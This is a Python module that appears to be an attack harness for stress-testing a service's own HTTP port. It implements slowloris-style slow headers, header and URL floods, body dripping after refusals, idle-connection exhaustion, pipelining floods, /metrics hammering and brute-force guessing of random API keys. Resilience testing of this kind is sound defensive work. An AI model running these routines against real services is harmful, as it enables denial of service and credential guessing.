"""What anybody can do who reaches the port: no key is needed."""

import asyncio
import secrets

from evertick.domain.access import KEYSPACE, write_key
from hostile.attacks.scene import Scene, again_and_again, all_of, rest_of, status_of

MB = 1_048_576
HELD_BYTES = 3


async def header_flood(scene: Scene) -> None:
    """Heads that do not end."""
    line = b"X-Flood: " + b"a" * 1013 + b"\r\n"

    async def send() -> None:
        async with scene.connection() as (reader, writer):
            writer.write(b"GET /livez HTTP/1.1\r\nHost: attacked\r\n")
            for _ in range(scene.size(25, 100)):
                writer.write(line * 1024)
                await writer.drain()
                scene.seen["sent MB"] += 1
            scene.seen[await status_of(reader)] += 1
            await asyncio.sleep(5)

    await all_of(send() for _ in range(20))
    await asyncio.Event().wait()


async def long_url(scene: Scene) -> None:
    """A URL that does not end."""

    async def send() -> None:
        async with scene.connection() as (reader, writer):
            writer.write(b"GET /")
            for _ in range(scene.size(50, 200)):
                writer.write(b"a" * MB)
                await writer.drain()
                scene.seen["sent MB"] += 1
            writer.write(b" HTTP/1.1\r\nHost: attacked\r\n\r\n")
            scene.seen[await status_of(reader)] += 1

    await all_of(send() for _ in range(4))
    await asyncio.Event().wait()


async def drip_after_refusal(scene: Scene) -> None:
    """Bodies nobody asked for that go on, byte by byte, after the 401."""

    async def send() -> None:
        async with scene.connection() as (reader, writer):
            writer.write(scene.head("POST", "/api/v1/jobs", Content_Length=MB))
            scene.seen[await status_of(reader)] += 1
            ending = asyncio.ensure_future(reader.read())
            while not ending.done():
                writer.write(b" ")
                await asyncio.wait([ending], timeout=0.5)
            scene.seen["closed by the server"] += 1
            ending.exception()

    await all_of(send() for _ in range(scene.size(100, 500)))
    await asyncio.Event().wait()


async def idle_connections(scene: Scene) -> None:
    """Connections that say nothing, and come again when they are closed."""

    async def stay() -> None:
        async with scene.connection() as (reader, _):
            scene.seen["connected"] += 1
            await reader.read()

    await asyncio.gather(*(again_and_again(stay) for _ in range(scene.size(1200, 3000))))


async def slow_heads(scene: Scene) -> None:
    """Heads that come byte by byte, again and again."""
    head = b"GET /livez HTTP/1.1\r\nHost: attacked\r\n" + b"X-Slow: a\r\n" * 1000

    async def drip() -> None:
        async with scene.connection() as (_, writer):
            for place in range(len(head)):
                writer.write(head[place : place + 1])
                await writer.drain()
                await asyncio.sleep(0.5)
                scene.seen["heads held"] += place == HELD_BYTES

    await asyncio.gather(*(again_and_again(drip) for _ in range(scene.size(500, 2000))))


async def pipelining(scene: Scene) -> None:
    """Thousands of requests at once on a connection on which nothing is read, again and again."""
    requests = b"GET /livez HTTP/1.1\r\nHost: attacked\r\n\r\n" * 1000

    async def send() -> None:
        async with scene.connection() as (_, writer):
            for _ in range(20):
                writer.write(requests)
                await writer.drain()
                scene.seen["requests"] += 1000
            await asyncio.sleep(1)

    await asyncio.gather(*(again_and_again(send) for _ in range(10)))


async def metrics_flood(scene: Scene) -> None:
    """`/metrics` in a tight loop."""
    async with scene.client() as client:
        client.headers.pop("Authorization")

        async def ask() -> None:
            scene.count(await client.get(f"{scene.address}/metrics"))

        await asyncio.gather(*(again_and_again(ask) for _ in range(16)))


async def unknown_keys(scene: Scene) -> None:
    """Keys of the right form that do not exist, each another one, on many connections."""

    async def ask() -> None:
        async with scene.connection() as (reader, writer):
            while True:
                writer.write(scene.head("GET", "/api/v1/jobs", write_key(secrets.randbelow(KEYSPACE))))
                scene.seen[await status_of(reader)] += 1
                await rest_of(reader)

    await asyncio.gather(*(again_and_again(ask) for _ in range(scene.size(500, 2000))))
